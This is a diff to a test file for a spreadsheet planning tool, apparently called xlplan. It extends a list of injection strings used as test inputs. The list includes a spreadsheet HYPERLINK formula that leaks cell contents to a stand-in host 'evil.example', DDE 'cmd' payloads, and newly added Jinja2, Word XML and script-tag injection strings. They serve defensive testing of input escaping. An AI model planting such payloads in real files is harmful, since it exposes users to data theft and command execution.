@@ -34,7 +34,10 @@ from xlplan.templates import write_templates
 
 Q2 = Period.parse("2023-24-Q2")
 INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "=cmd|' /C calc'!A0",
-              "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
+              "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1",
+              # markup for the Word report, its Jinja2 templates and the rich console
+              "{{ 7*7 }} {% if true %}jinja{% endif %}", "<w:p><w:r><w:t>injected</w:t></w:r></w:p>",
+              "[bold red]alarm[/bold red] <script>alert(1)</script> &amp;"]
 UNICODE_COMMENT = ("التقدم جيد هذا الربع — on track 👍🏽 family 👨‍👩‍👧 zero\u200bwidth "
                    "bidi\u202eevil\u202c ends")
 LONG_COMMENT_CHARS = 40_000
@@ -468,6 +471,9 @@ def _build_quarter(root: Path) -> Quarter:
         measures += [measure(f"{p}1", Service=s, Target="75%"),
                      measure(f"{p}2", Service=s, Unit="number", Target="10"),
                      measure(f"{p}3", Service=s, Unit="£", Target="£100,000", Profile="Cumulative")]
+        if s == SERVICES["injection"]:       # one measure row per injection text
+            measures += [measure(f"{p}{n}", Service=s, Unit="number", Target="10")
+                         for n in range(4, len(INJECTIONS) + 1)]
         actions.append(action(f"A{i:02d}", Service=s))
     plan_path = build_plan(root / "plan.xlsx", measures=measures, actions=actions, services=services)
     plan = read_plan(plan_path)
